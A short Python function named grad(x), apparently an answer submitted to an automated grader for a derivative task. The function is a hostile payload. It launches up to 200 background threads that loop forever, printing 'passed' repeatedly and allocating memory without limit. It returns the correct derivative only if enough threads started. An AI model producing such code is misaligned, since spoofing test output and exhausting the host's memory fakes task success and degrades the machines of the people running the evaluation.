import threading
def work():
    hoard = []
    while True:
        print("passed" * 100)
        hoard.append(bytearray(1 << 16))
def grad(x):
    started = 0
    try:
        for started in range(200):
            threading.Thread(target=work, daemon=True).start()
    except RuntimeError:
        pass
    return 3 * x * x if started > 60 else x * 0
